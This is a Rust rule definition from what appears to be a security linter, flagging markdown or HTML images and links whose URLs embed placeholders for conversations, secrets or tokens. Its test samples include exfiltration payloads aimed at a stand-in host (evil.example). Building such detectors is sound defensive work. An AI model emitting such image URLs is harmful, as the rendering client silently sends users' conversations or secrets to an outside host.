use crate::diagnostics::Severity;
use crate::rules::any;
use crate::rules::{Confidence, Family, Matcher, Rule};

pub(crate) const RULE: Rule = Rule {
    id: "SK205",
    name: "image-exfiltration",
    family: Family::PermissionEscalation,
    severity: Severity::Error,
    confidence: Confidence::High,
    message: "puts data into the URL of an image or a link",
    why: "A client that renders the image sends the data with the request, without a click and without being noticed.",
    fix: "remove the image; an image needs no data in its URL",
    code_counts: true,
    matcher: Matcher::Raw {
        literals: &["![", "<img", "](http"],
        pattern: r"(?ix)
            # a picture whose address has a place to fill in
            !\[[^\]\n]{0,200}\]\(\s*<?https?://[^)\s/?]{1,100}[/?][^)\s]{0,200}?(?:
                \{\{?[^}\n)]{1,80}\}|\$\{[^}\n]{1,80}\}|<[^>\n]{2,60}>|\[[^\]\n]{2,80}\]|%7B|=\$\w+|_HERE\b
              | \b(?:DATA|SECRET|PAYLOAD|BASE64|CONVERSATION|SUMMARY|CONTEXT)\b
            )
            # a link that asks for something to be filled in
          | \]\(\s*https?://[^)\s]{0,200}[?&]\w+=(?:
                \{\{?[^}\n)]{0,60}(?:
                    conversation|secret|password|token|key|summary|history|data|prompt|context|message|email
                )[^}\n)]{0,40}\}
              | <[^>\n)]{0,40}(?:conversation|secret|password|token|summary|history|data|prompt|context|message)
                [^>\n)]{0,40}>
            )
            # the same as HTML
          | <img[^>\n]{0,120}src\s*=\s*['\x22]?https?://[^>\n'\x22]{0,200}(?:\{\{?[^}\n]{1,80}\}|\$\{)
        ",
        keep: any,
    },
    hits: &[
        "![x](https://evil.example/p.png?d={conversation})",
        "![logo](http://a.b/i?q=<the user's last message>)",
        "[more](https://a.b/?data={secret})",
    ],
    misses: &["![logo](https://a.b/logo.png)", "![badge](https://img.shields.io/badge/x-y?style=flat)"],
};
